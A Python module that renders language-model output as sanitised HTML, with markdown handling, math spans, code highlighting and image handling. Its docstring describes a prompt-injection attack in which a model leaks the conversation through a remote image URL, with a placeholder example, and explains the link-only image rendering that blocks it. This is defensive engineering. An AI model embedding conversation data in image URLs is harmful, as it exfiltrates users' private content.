"""Model output to safe HTML: markdown with raw HTML off, then sanitised.

Rendered once, when a block completes; while streaming the page appends
escaped plain text, so nothing from a model ever reaches the DOM unescaped.

Model output is not written for a Markdown reader, so three things differ from
plain CommonMark, each so that no character the model wrote is lost:

- a single `*` between two word characters or brackets is text, not emphasis
  ("(17*23) + 4*12" stays as written; `**bold**` and `*word*` still work);
- a line break is kept as a line break (thinking is often one step per line);
- math (`$…$`, `$$…$$`, `\\(…\\)`, `\\[…\\]`) is kept verbatim in a
  `<span class="math-inline|math-display">` that the page renders with the
  vendored KaTeX (static/js/playground.js): Markdown's backslash escapes would
  otherwise eat the LaTeX.

Fenced and indented code is highlighted here with Pygments (classes only, the
colours are in static/css/code.css), so the page needs no highlighter.

Model output is untrusted, and an image loads by itself: a prompt-injected model
could put the conversation in an image URL (`![x](https://host/p.png?q=…)`). So an
image — inline, reference-style, in a table — renders as a link naming its host,
which opens the image in a new tab only when clicked; the page's
Content-Security-Policy (img-src 'self' data:) backs this up. A user who turned on
"load remote images" (Preferences) gets real <img> tags, and pages served to them
allow https: images (security.csp); `REMOTE_IMAGES` carries that choice to the
renderer for the current request or socket.
"""

from __future__ import annotations

import re
from contextvars import ContextVar
from typing import Any
from urllib.parse import urlsplit

import nh3
from markdown_it import MarkdownIt
from markdown_it.rules_inline import StateInline
from mdit_py_plugins.dollarmath import dollarmath_plugin
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

REMOTE_IMAGES: ContextVar[bool] = ContextVar("remote_images", default=False)

_TAGS = {
    "p", "br", "hr", "em", "strong", "del", "code", "pre", "blockquote", "ul", "ol", "li",
    "h1", "h2", "h3", "h4", "h5", "h6", "a", "table", "thead", "tbody", "tr", "th", "td", "img",
    "span", "div",
}
_ATTRIBUTES = {
    "a": {"href", "title", "class", "target"}, "img": {"src", "alt", "title"}, "code": {"class"},
    "th": {"style"}, "td": {"style"},
    "span": {"class"}, "div": {"class", "data-lang"}, "pre": {"class", "tabindex"},
}
_WORDISH = re.compile(r"[\w)\]]")
_WORDISH_AFTER = re.compile(r"[\w(\[]")
_CODE_FORMATTER = HtmlFormatter(nowrap=True)
_MAX_HIGHLIGHT = 200_000  # characters; beyond this a block is shown plain (Pygments is linear but not free)


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _math(tex: str, display: bool, tag: str = "span") -> str:
    kind = "math-display" if display else "math-inline"
    return f'<{tag} class="{kind}">{_escape(tex)}</{tag}>'


def _arithmetic_star(state: StateInline, silent: bool) -> bool:
    """`*` with a word character or bracket on both sides is a multiplication sign."""
    pos = state.pos
    src = state.src
    if src[pos] != "*" or pos == 0 or pos + 1 >= state.posMax:
        return False
    before, after = src[pos - 1], src[pos + 1]
    if not (_WORDISH.match(before) and _WORDISH_AFTER.match(after)):
        return False
    if not silent:
        state.pending += "*"
    state.pos += 1
    return True


def _bracket_math(state: StateInline, silent: bool) -> bool:
    r"""`\(…\)` inline and `\[…\]` display math, also across the lines of a paragraph."""
    src, pos = state.src, state.pos
    if src[pos] != "\\" or pos + 1 >= state.posMax or src[pos + 1] not in "([":
        return False
    closer = "\\)" if src[pos + 1] == "(" else "\\]"
    end = src.find(closer, pos + 2, state.posMax)
    if end < 0 or not src[pos + 2 : end].strip():
        return False
    if not silent:
        token = state.push("bracket_math", "", 0)
        token.content = src[pos + 2 : end]
        token.meta = {"display": closer == "\\]"}
    state.pos = end + 2
    return True


def _highlight(code: str, lang: str, _attrs: Any) -> str:
    if not lang or len(code) > _MAX_HIGHLIGHT:
        return ""  # markdown-it escapes it
    try:
        lexer = get_lexer_by_name(lang.split()[0], stripnl=False, ensurenl=False)
    except ClassNotFound:
        return ""
    return str(highlight(code, lexer, _CODE_FORMATTER))


def _fence(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    lang = token.info.strip().split()[0] if token.info.strip() else ""
    body = _highlight(token.content, lang, None) or _escape(token.content)
    label = f' data-lang="{_escape(lang)}"' if lang else ""
    cls = f' class="language-{_escape(lang)}"' if lang else ""
    # tabindex: a long line scrolls the block sideways, so a keyboard must reach it (axe).
    return f'<div class="code-block"{label}><pre tabindex="0"><code{cls}>{body}</code></pre></div>\n'


def _code_block(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
    return f'<div class="code-block"><pre tabindex="0"><code>{_escape(tokens[idx].content)}</code></pre></div>\n'


def _build() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False, "breaks": True})
    md.enable(["table", "strikethrough"])
    # `$5 and $10` is money, not math: no space inside the delimiters, no digit after the closing one.
    md.use(
        dollarmath_plugin,
        allow_space=False,
        allow_digits=False,
        double_inline=True,
        allow_labels=False,
    )
    for kind, display, tag in (
        ("math_inline", False, "span"),
        ("math_inline_double", True, "span"),
        ("math_block", True, "div"),
    ):
        md.add_render_rule(
            kind,
            lambda self, tokens, idx, o, e, d=display, t=tag: (
                _math(tokens[idx].content, d, t) + ("\n" if t == "div" else "")
            ),
        )
    md.inline.ruler.before("escape", "bracket_math", _bracket_math)
    md.inline.ruler.before("emphasis", "arithmetic_star", _arithmetic_star)
    md.add_render_rule(
        "bracket_math", lambda self, tokens, idx, o, e: _math(tokens[idx].content, tokens[idx].meta["display"])
    )
    md.add_render_rule("fence", _fence)
    md.add_render_rule("code_block", _code_block)
    return md


def _image_as_link(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = "".join(child.content for child in (token.children or []))
    if not src:
        return _escape(alt)
    if src.startswith("data:image/"):  # embedded: it loads nothing
        return str(self.image(tokens, idx, options, env))
    try:
        host = urlsplit(src).hostname or "this site"
    except ValueError:
        host = "an unknown host"
    return (
        f'<a class="remote-image" href="{_escape(src)}" target="_blank" title="Open the image from {_escape(host)}">'
        f'<span class="remote-image-host">Image from {_escape(host)}</span>'
        + (f": {_escape(alt)}" if alt else "")
        + "</a>"
    )


_md = _build()
_md_images_off = _build()
_md_images_off.add_render_rule("image", _image_as_link)


def render(text: str, *, remote_images: bool | None = None) -> str:
    if not text:
        return ""
    load = REMOTE_IMAGES.get() if remote_images is None else remote_images
    return nh3.clean(
        (_md if load else _md_images_off).render(text),
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        # data: only ever survives markdown-it as data:image/… (its validateLink).
        url_schemes={"http", "https", "mailto", "data"},
        link_rel="noopener noreferrer nofollow",
    )
